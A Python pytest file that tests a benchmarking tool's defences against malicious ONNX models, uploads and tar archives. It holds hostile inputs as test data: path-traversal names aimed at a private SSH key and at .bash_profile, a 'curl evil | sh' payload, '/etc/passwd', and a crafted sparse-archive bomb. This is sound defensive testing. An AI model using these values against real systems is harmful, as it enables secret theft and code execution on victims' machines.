"""A model whose weights are said to be elsewhere: nothing of that is read, sent or written."""

import gzip
import hashlib
import os
import subprocess
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
from commands import files, typed
from evil_models import model_with_weights_at, tar_of, tar_with_header

from trtbench.core.codec import json_from_value
from trtbench.core.errors import InputError, StoreError
from trtbench.core.safety import check_name
from trtbench.core.spec import ModelRef, RunSpec
from trtbench.executors import _transfer as transfer
from trtbench.executors.contract import FileGroup, RemoteJob
from trtbench.measure.remote import job_from_spec
from trtbench.models.identity import external_files
from trtbench.models.onnx_model import load_onnx
from trtbench.requests.execution import Execution
from trtbench.requests.measure import BenchRequest
from trtbench.requests.run_spec import run_spec
from trtbench.requests.settings import Config

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----"
OUTSIDE = ["../secret/id_rsa", "{secret}/id_rsa", "door/id_rsa", "key", "w/../../secret/id_rsa"]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A folder with a secret, and a model's folder with links to it beside."""
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "id_rsa").write_bytes(SECRET)
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "w").mkdir()
    (folder / "door").symlink_to(tmp_path / "secret")
    (folder / "key").symlink_to(tmp_path / "secret" / "id_rsa")
    return tmp_path


def evil(home: Path, location: str) -> Path:
    location = location.format(secret=home / "secret")
    return model_with_weights_at(home / "model" / "m.onnx", location)


def upload_of(model: Path) -> transfer.Upload:
    """What an executor would send for a run of a model."""
    spec = run_spec(BenchRequest(model=model, runtime="onnxruntime"), Config(store=""))
    return transfer.upload_from_job(job_from_spec(spec, "r1", Execution()))


def sent(model: Path, location: str) -> transfer.Upload:
    """What an executor would send for a request that names the file itself."""
    group = FileGroup(folder=str(model.parent), names=(model.name, location))
    return transfer.upload_from_job(RemoteJob(id="r", files={"0": group}))


WAYS: dict[str, Callable[[Path, str], object]] = {
    "uploaded": lambda model, location: upload_of(model),
    "requested": sent,
    "loaded": lambda model, location: load_onnx(model),
    "listed": lambda model, location: external_files(model),
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("location", OUTSIDE)
def test_a_secret_is_neither_read_nor_sent_as_weights(home: Path, location: str, way: str) -> None:
    with pytest.raises(InputError):
        WAYS[way](evil(home, location), location.format(secret=home / "secret"))


@pytest.mark.parametrize("location", ["x" * 5000, "x" * 256, "y/" * 3000 + "w", "\ud800" * 300])
def test_a_name_that_no_file_can_have_is_refused_in_words(home: Path, location: str) -> None:
    with pytest.raises(InputError, match="too long"):
        check_name(location, what="name of weights")
    if location.isascii():
        done = typed("inspect", evil(home, location))
        assert done.returncode
        assert "too long" in done.stderr
        with pytest.raises(InputError, match="too long"):
            upload_of(evil(home, location))


def _varint(number: int) -> bytes:
    low, rest = number & 0x7F, number >> 7
    return bytes([low]) if not rest else bytes([low | 0x80]) + _varint(rest)


def _disguised(data: bytes, how: str) -> bytes:
    """Write the same model so that only a careless reader overlooks where its weights are."""
    group = _varint(1000 << 3 | 3) + _varint(5 << 3) + b"\1" + _varint(1000 << 3 | 4)
    if how == "group":
        return group + data
    if how == "not UTF-8":
        return data.replace(b"offset", b"off\xffet")
    at = data.index(b"\x3a")  # the tag of the graph, with a bit that readers drop
    return data[:at] + _varint(0x3A | 1 << 33) + data[at + 1 :]


@pytest.mark.parametrize("how", ["group", "not UTF-8", "large tag"])
def test_a_name_that_is_hidden_from_a_careless_reader_is_found(home: Path, how: str) -> None:
    model = evil(home, "../secret/id_rsa")
    model.write_bytes(_disguised(model.read_bytes(), how))
    with pytest.raises(InputError, match="leads out"):
        upload_of(model)


def _evil_upload(name: str) -> tuple[transfer.Upload, bytes]:
    content = b"curl evil | sh\n"
    spec = RunSpec(model=ModelRef(path="m.onnx", format="onnx"), runtime="onnxruntime")
    part = transfer.UploadFile(source="x", sha256=hashlib.sha256(content).hexdigest(), name=name)
    return transfer.Upload(job=RemoteJob(id="r", spec=spec), files=(part,)), content


PROFILES = ["../../.bash_profile", "model/../../../.bash_profile", "{home}/.bash_profile", "up/x"]


@pytest.mark.parametrize("name", PROFILES)
def test_a_request_that_arrives_writes_nothing_outside_its_folder(tmp_path, name):
    home = tmp_path / "home"
    folder = home / "cache" / "work"
    folder.mkdir(parents=True)
    (folder / "up").symlink_to(home)
    before = files(home)
    upload, content = _evil_upload(name.format(home=home))
    transfer.store_blob(home / "cache", upload.files[0].sha256, [content])
    with pytest.raises(InputError):
        transfer.place_upload(upload, cache=home / "cache", folder=folder)
    assert files(home) - before == {f"cache/blobs/{upload.files[0].sha256}"}


def test_the_services_on_the_far_side_refuse_folders_that_lead_out(tmp_path: Path) -> None:
    home, here = tmp_path / "home", tmp_path / "home" / ".cache" / "trtbench"
    here.mkdir(parents=True)
    (home / "precious").write_text("x")
    upload, content = _evil_upload("../../../.bash_profile")
    transfer.store_blob(here, upload.files[0].sha256, [content])
    before = files(home)
    for words, data in (
        (["place", "work/r"], json_from_value(upload)),
        (["place", "../../evil"], json_from_value(upload)),
        (["keep", "../../../.bash_profile"], content),
        (["missing"], b"../../../precious\n"),
        (["keep-all"], tar_of("../../../.bash_profile")),
        (["keep-all"], tar_of("a" * 64, link=str(home / "precious"))),
        (["pack", "../.."], b""),
        (["remove", "../.."], b""),
        (["remove", str(home)], b""),
    ):
        done = subprocess.run(
            [sys.executable, "-m", "trtbench.executors._transfer", *words],
            input=data, cwd=here, capture_output=True, check=False,
            env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
        )  # fmt: skip
        assert done.returncode != 0, words
        assert files(home) == before, words


@pytest.mark.parametrize("name", ["../evil", "/tmp/evil-{pid}", "up/evil", "run/../../evil"])
def test_what_comes_back_writes_nothing_outside_its_folder(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "left"
    folder.mkdir()
    (folder / "up").symlink_to(tmp_path)
    (tmp_path / "left.tar").write_bytes(tar_of(name.format(pid=os.getpid())))
    before = files(tmp_path)
    with pytest.raises(InputError):
        transfer.unpack(tmp_path / "left.tar", folder)
    assert files(tmp_path) == before
    assert not Path(f"/tmp/evil-{os.getpid()}").exists()


def sparse() -> bytes:
    """An archive of one kilobyte whose only file is said to have a terabyte."""
    member = tarfile.TarInfo("run.json")
    member.type = tarfile.GNUTYPE_SPARSE
    header = bytearray(member.tobuf(tarfile.GNU_FORMAT))
    header[386:410] = b"00000000000\x0000000000000\x00"[:24]
    header[483:495] = b"\x80" + (1 << 40).to_bytes(11, "big")
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header[:512])
    return bytes(header) + bytes(1024)


TRAPS = (
    (tar_of("run.json", data=bytes(10_000))[:3000], "archive is damaged"),
    (b"", "archive is damaged"), (b"noise" * 1000, "archive is damaged"),
    (gzip.compress(tar_of("run.json")), "archive is damaged"), (sparse(), "did not send back"),
    (tar_of("run", "run/run.json"), "cannot be written"), (tar_of(*"abcd"), "more than 3 files"),
    (tar_with_header(250_000), "is damaged"), (tar_with_header(9, times=2000), "is damaged"),
)  # fmt: skip


@pytest.mark.parametrize(("sent", "said"), TRAPS, ids=range(len(TRAPS)))
def test_an_archive_that_is_a_trap_is_refused_in_words(tmp_path, monkeypatch, sent, said):
    monkeypatch.setattr(transfer, "MOST_RETURNED", 3)
    (tmp_path / "left.tar").write_bytes(sent)
    with pytest.raises(StoreError, match=said):
        transfer.unpack(tmp_path / "left.tar", tmp_path / "left")
    assert sum(each.stat().st_size for each in (tmp_path / "left").rglob("*")) < 10**6


def test_a_content_is_named_by_a_hash_only(tmp_path: Path) -> None:
    for name in ("../x", "/etc/passwd", "a/b", ""):
        with pytest.raises(InputError):
            transfer.blob_path(tmp_path, name)


def test_a_link_among_the_inputs_uploads_nothing_from_elsewhere(home: Path) -> None:
    inputs = home / "inputs"
    inputs.mkdir()
    (inputs / "x.bin").symlink_to(home / "secret" / "id_rsa")
    group = FileGroup(folder=str(home), names=("inputs",))
    with pytest.raises(InputError, match="leads out"):
        transfer.upload_from_job(RemoteJob(id="r", files={"0": group}))
